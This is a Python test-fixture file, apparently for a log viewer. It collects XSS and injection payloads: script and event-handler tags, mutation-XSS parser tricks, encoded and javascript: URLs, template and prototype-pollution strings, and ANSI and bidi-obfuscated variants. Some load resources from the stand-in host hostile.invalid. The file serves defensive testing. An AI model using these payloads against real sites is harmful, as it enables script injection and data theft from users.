"""Texts that a page which takes a log for anything but text would run, load, follow or hide. Each calls pwn() one way or
another, or leaves for hostile.invalid. It must not know how the page shows them."""

_ELEMENTS = (
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script src=https://hostile.invalid/x.js></script>",
    "</script><script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    '<img src=x onerror="pwn();alert(1)">',
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    "<img src=https://hostile.invalid/x.png>",
    "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=pwn()>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()//",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwn()><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwn()</script>'></iframe></foreignObject></svg>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<details open ontoggle=pwn()><summary>x</summary></details>",
    "<input autofocus onfocus=pwn()>",
    "<body onload=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<style>*{display:none!important}</style>",
    "<style>@import 'https://hostile.invalid/x.css';</style>",
    "<link rel=stylesheet href=https://hostile.invalid/x.css>",
    "<base href=https://hostile.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://hostile.invalid/'>",
    "<form action=https://hostile.invalid/><button>x</button></form>",
    "<button popovertarget=x onclick=pwn()>x</button>",
)
# Whole only once a parser has mended it.
_MENDED = (
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=pwn()>'>",
    "<template><img src=x onerror=pwn()></template>",
    "<xmp><p title='</xmp><img src=x onerror=pwn()>'>",
    "<!--><img src=x onerror=pwn()>-->",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "&lt;img src=x onerror=pwn()&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "%3Cscript%3Epwn()%3C%2Fscript%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
)
_ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()//https://example.com",
    "data:text/html,<script>opener.pwn()</script>",
    "https://hostile.invalid/?a=1",
    "<a href=javascript:pwn()>x</a>",
    "[x](javascript:pwn())",
)
_TEMPLATES = (
    "{{constructor.constructor('pwn()')()}}",
    "${pwn()}",
    "<%= pwn() %>",
    "#{pwn()}",
    "';pwn();//",
    '"};pwn();//',
    "`;pwn();//",
    "__proto__",
    "constructor",
    '{"__proto__":{"toString":"x"}}',
    '{"a":"<img src=x onerror=pwn()>"}',
)
# With characters that are shown by a sign of their own, or as a style.
_UNSEEN = (
    "\x1b[31m<img src=x onerror=pwn()>\x1b[0m",
    "\x1b]8;;javascript:pwn()\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]8;;https://hostile.invalid/\x07click\x1b]8;;\x07",
    "\x1b]0;title\x07\x1b[2J\x1b[H",
    "\x1b[38;2;255;255;255;48;2;255;255;255m<b onclick=pwn()>x</b>",
    "\u202e<script>pwn()</script>\u202c",
    "<scr\x00ipt>pwn()</scr\x00ipt>",
    "<img src=x\x0conerror=pwn()>",
    "\u2066<svg onload=pwn()>\u2069\u200b\ufeff",
    "＜script＞pwn()＜/script＞",
    "<img src=x onerror=pwn()>\u2028\u2029\r\n<svg onload=pwn()>",
    "\ufffe\uffff<script>pwn()</script>",
)
HOSTILE = (*_ELEMENTS, *_MENDED, *_ADDRESSES, *_TEMPLATES, *_UNSEEN)
# Past what a line shows, and a page may lay out.
VERY_LONG = "<img src=x onerror=pwn()>" * 2_600
